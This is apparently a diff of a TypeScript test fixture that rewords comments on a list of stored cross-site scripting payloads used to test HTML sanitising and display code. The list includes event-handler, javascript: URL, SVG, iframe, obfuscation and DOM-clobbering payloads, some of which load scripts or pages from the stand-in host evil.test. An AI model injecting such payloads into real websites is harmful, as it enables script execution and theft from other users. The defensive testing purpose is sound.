@@ -1,11 +1,11 @@
 /**
- * Ways to have a stored text act when it is shown, in the forms that the field's public collections sort them into: handlers,
- * addresses, elements that fetch, broken markup, other languages within HTML, disguises. Each calls `pwn`, or asks `evil.test` for
- * something. For the tests of what cleans and of what shows.
+ * XSS payloads for stored texts, grouped as in public collections: handlers, addresses, loading elements, broken markup, other
+ * languages in HTML, obfuscation. Each calls `pwn` or requests something from `evil.test`. For tests of code that cleans or
+ * shows HTML.
  * @example it.each(storedScripts)('%j stays text', (script) => expect(shown(script)).not.toMatch(/<script/));
  */
 export const storedScripts: readonly string[] = [
-  // Plain, in any case and shape.
+  // Plain scripts, in different case and shape.
   '<script>pwn()</script>',
   '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
   '<script src=//evil.test/x.js>',
@@ -112,7 +112,7 @@ export const storedScripts: readonly string[] = [
   '<isindex action="javascript:pwn()" type=image>',
   '<table background="javascript:pwn()"><tr><td background="https://evil.test/a.png">x</table>',
   '<body background="https://evil.test/a.png">',
-  // Elements that fetch or hold pages.
+  // Elements that load or embed pages.
   '<iframe src="javascript:pwn()"></iframe>',
   '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
   '<iframe src="https://evil.test/"></iframe>',
@@ -148,7 +148,7 @@ export const storedScripts: readonly string[] = [
   '<p style="-moz-binding:url(https://evil.test/x#y)">x</p>',
   '<p style="behavior:url(https://evil.test/x.htc)">x</p>',
   '<p style="position:fixed;inset:0">covers the page</p>',
-  // Languages within.
+  // Embedded languages.
   '<svg><script>pwn()</script></svg>',
   '<svg><a xlink:href="javascript:pwn()"><text y=20>x</text></a></svg>',
   '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
@@ -164,7 +164,7 @@ export const storedScripts: readonly string[] = [
   '<xmp><img src=x onerror=pwn()></xmp>',
   '<noembed><img src=x onerror=pwn()></noembed>',
   '<plaintext><img src=x onerror=pwn()>',
-  // Names that shadow, forms that lure, frames that look out.
+  // Elements that shadow globals, phishing forms, and frames that navigate the page.
   '<form id=document><input name=cookie></form>',
   '<img name=getElementById>',
   '<a id=location href="https://evil.test/">x</a>',
@@ -176,8 +176,8 @@ export const storedScripts: readonly string[] = [
 ];
 
 /**
- * All of them, in texts that a field takes.
- * @param most UTF-16 units of one text
+ * All payloads, packed into texts that fit a field.
+ * @param most maximum UTF-16 units of one text
  * @example for (const title of scriptsWithin(300)) await agent.request(createPost, { body: { title } });
  */
 export function scriptsWithin(most: number): string[] {
